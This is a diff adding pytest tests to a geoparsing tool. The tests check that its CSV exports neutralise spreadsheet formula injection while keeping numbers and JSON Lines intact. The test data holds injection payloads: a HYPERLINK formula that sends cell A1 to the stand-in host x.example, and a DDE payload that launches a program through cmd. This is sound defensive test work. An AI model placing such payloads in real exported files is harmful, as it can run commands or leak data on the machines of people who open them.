@@ -10,12 +10,14 @@ import json
 import re
 from pathlib import Path
 
+import pandas as pd
 import pytest
 from click.testing import CliRunner
 
 from placemap.cli import cli
 from placemap.maps import collection_map, render, report_map
 from placemap.records import Mention, Place, Report
+from placemap.writers import COLUMNS, FORMULA_START
 
 # Jinja2 syntax: a command, an expression, a block and a comment left open. Any of them
 # compiled by branca runs, prints 49, or aborts the run.
@@ -179,3 +181,89 @@ def test_map_command_tile_url_with_template_syntax_stays_text(
     for page in _pages(tmp_path / "out").values():
         if "placemap-data" in page:
             assert _data(page)["tiles"]["url"] == template
+
+
+# --- spreadsheet formulas -------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+# An overlay place whose name is a formula, found in a text by its other spelling; its
+# longitude is negative, as every number in the west.
+EVIL_OVERLAY = (
+    "name,lat,lon,country,alternate_names\n\"=cmd|'/C calc'!A0\",34.5,-36.5,SY,Zarqaville\n"
+)
+
+
+def _csv_rows(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+def test_extract_csv_cells_never_start_a_formula(run, tmp_path: Path) -> None:
+    (tmp_path / "evil.csv").write_text(EVIL_OVERLAY, "utf-8")
+    records = [
+        {"id": f, "title": f, "date": f, "text": "Shelling hit Zarqaville and Homs."}
+        for f in FORMULAS
+    ]
+    records.append({"id": "a\rb", "title": "carriage\rreturn", "text": "Fighting in Homs."})
+    (tmp_path / "in.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), "utf-8")
+    out = tmp_path / "m.csv"
+    r = run("extract", tmp_path / "in.jsonl", "--overlay", tmp_path / "evil.csv",
+            "--format", "csv", "-o", out)  # fmt: skip
+    assert r.exit_code == 0, r.output
+    rows = _csv_rows(out)
+    header, rows = rows[0], rows[1:]
+    assert len(rows) == 2 * len(FORMULAS) + 1  # a lone CR in an id splits no row
+    cells = [dict(zip(header, row, strict=True)) for row in rows]
+    for i, c in enumerate(cells[:-1]):
+        assert c["report_id"] == c["title"] == c["date"] == "'" + FORMULAS[i // 2]
+    assert [c["name"] for c in cells[:2]] == ["'=cmd|'/C calc'!A0", "Homs"]
+    assert (cells[-1]["report_id"], cells[-1]["title"]) == ("a\rb", "carriage\rreturn")
+    text_columns = [c for c, t in COLUMNS.items() if t == "string"]
+    assert not [v for c in cells for k in text_columns if c[k].startswith(FORMULA_START)]
+    # numbers stay numbers: a negative longitude is no formula
+    df = pd.read_csv(out, dtype={"geonameid": "Int64"})
+    assert len(df) == len(rows)
+    assert df["lon"].dtype == "float64" and df["lon"].iloc[0] == -36.5
+    assert df["confidence"].dtype == "float64"
+
+
+def test_geocode_csv_makes_its_own_columns_safe_and_keeps_the_tables(run, tmp_path: Path) -> None:
+    (tmp_path / "evil.csv").write_text(EVIL_OVERLAY, "utf-8")
+    table = tmp_path / "t.csv"
+    with table.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows(
+            [["location", "note"], ["Zarqaville", "=1+2"], ["Homs", "-5"], ["Homs", "a\rb"]]
+        )
+    out = tmp_path / "g.csv"
+    r = run("geocode", table, "--column", "location", "--overlay", tmp_path / "evil.csv",
+            "-o", out)  # fmt: skip
+    assert r.exit_code == 0, r.output
+    rows = _csv_rows(out)
+    assert len(rows) == 4
+    df = pd.read_csv(out, dtype={"note": str})
+    assert list(df["resolved_name"]) == ["'=cmd|'/C calc'!A0", "Homs", "Homs"]
+    assert list(df["note"]) == ["=1+2", "-5", "a\rb"]  # the table's own cells, as they were
+    assert df["lon"].dtype == "float64" and df["lon"].iloc[0] == -36.5
+    # JSON Lines are data, not a spreadsheet: written as they are
+    r = run("geocode", table, "--column", "location", "--overlay", tmp_path / "evil.csv",
+            "-o", tmp_path / "g.jsonl")  # fmt: skip
+    assert r.exit_code == 0, r.output
+    first = json.loads((tmp_path / "g.jsonl").read_text("utf-8").splitlines()[0])
+    assert first["resolved_name"] == "=cmd|'/C calc'!A0"
+
+
+def test_eval_misses_csv_cells_never_start_a_formula(small_index: Path, tmp_path: Path) -> None:
+    from placemap.evaluate import evaluate
+    from placemap.gazetteer import Gazetteer
+    from placemap.pipeline import Geoparser
+
+    text = "Shelling hit Homs."
+    doc = {"id": "=1+2", "text": text, "toponyms": [
+        {"start": 13, "end": 17, "name": "@Homs", "lat": -40.0, "lon": -70.0}
+    ]}  # fmt: skip
+    corpus = tmp_path / "c.jsonl"
+    corpus.write_text(json.dumps(doc) + "\n", "utf-8")
+    evaluate(Geoparser(Gazetteer(small_index)), corpus, misses_csv=tmp_path / "m.csv")
+    [header, row] = _csv_rows(tmp_path / "m.csv")
+    assert row[1:4] == ["'=1+2", "'@Homs", " -40.000,-70.000"]
+    assert float(row[0]) > 161
